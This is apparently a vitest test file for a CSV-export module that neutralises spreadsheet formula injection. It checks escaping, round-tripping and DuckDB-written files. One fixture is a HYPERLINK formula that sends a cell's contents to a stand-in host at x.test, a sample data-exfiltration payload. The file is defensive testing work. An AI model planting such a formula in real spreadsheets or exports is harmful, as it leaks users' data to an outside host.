import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { copyCsv, csvLine, csvText, inertText, originalText } from "./csv.ts";
import { Duck } from "./duckdb.ts";

/** Texts a spreadsheet would run, or that sit next to such a rule: each must come back as it was. */
const TEXTS = [
  '=HYPERLINK("http://x.test/?leak="&A1,"click")',
  "+1+2",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "'=1", // already starts with the mark: one more is added, so dropping one gives it back
  "'t Hoekje",
  "alice",
  "a=b",
  "Pal-Arinsal",
  "",
];

let scratch: string;
beforeAll(async () => {
  scratch = await mkdtemp(path.join(tmpdir(), "csv-"));
});
afterAll(() => rm(scratch, { recursive: true, force: true }));

describe("csvText (OWASP CSV injection)", () => {
  it.each([
    ['=HYPERLINK("http://x.test/?leak="&A1,"click")', `"'=HYPERLINK(""http://x.test/?leak=""&A1,""click"")"`],
    ["+1+2", "'+1+2"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", `"'\r=1"`],
    ["'=1", "''=1"],
    ["alice", "alice"],
    ["a=b", "a=b"],
  ])("GIVEN the text %j WHEN written THEN the cell is %s", (text, cell) => {
    expect(csvText(text)).toBe(cell);
  });

  it("GIVEN any text WHEN made inert and read back by dropping one leading quote THEN it is the original", () => {
    for (const text of TEXTS) expect(originalText(inertText(text)), JSON.stringify(text)).toBe(text);
  });

  it("GIVEN numbers, negative ones included, next to text WHEN written as a line THEN the numbers stay numbers", () => {
    expect(csvLine(["-5", -5, -0.25, 1e21, true, null, "=1"])).toBe("'-5,-5,-0.25,1e+21,true,,'=1");
  });
});

describe("copyCsv (files DuckDB writes)", () => {
  it("GIVEN text and numeric columns WHEN DuckDB writes them THEN the text cells are those of csvText, numbers as DuckDB writes them, rows in the order asked", async () => {
    const db = await Duck.open();
    const file = path.join(scratch, "out.csv");
    try {
      await db.run("CREATE TABLE t (name VARCHAR, line INTEGER, value DOUBLE)");
      for (const [i, text] of TEXTS.entries()) await db.run(`INSERT INTO t VALUES (${`'${text.replaceAll("'", "''")}'`}, ${TEXTS.length - i}, ${-i - 0.5})`);
      await db.run("INSERT INTO t VALUES (NULL, 0, NULL)");
      await copyCsv(db, "SELECT * FROM t", file, ["line"]);

      // Read back by DuckDB's own CSV reader (quotes and line breaks inside cells as RFC 4180 says).
      const rows = (await db.query(`SELECT * FROM read_csv('${file}', header = true, all_varchar = true)`)) as Record<string, string | null>[];
      expect(rows.map((r) => r.line)).toEqual(["0", ...TEXTS.map((_, i) => String(i + 1))]);
      expect(rows[0]).toEqual({ name: null, line: "0", value: null });
      const written = rows.slice(1).reverse();
      expect(written.map((r) => r.name ?? "")).toEqual(TEXTS.map(inertText));
      expect(written.map((r) => originalText(r.name ?? ""))).toEqual(TEXTS);
      expect(written.map((r) => r.value)).toEqual(TEXTS.map((_, i) => String(-i - 0.5)));
      // No cell of the file starts with a formula character (after its quotes are taken off).
      const text = await readFile(file, "utf8");
      expect(text.split("\n")[0]).toBe("name,line,value");
      expect(written.some((r) => /^[=+\-@\t\r]/.test(r.name ?? ""))).toBe(false);
    } finally {
      db.close();
    }
  });
});
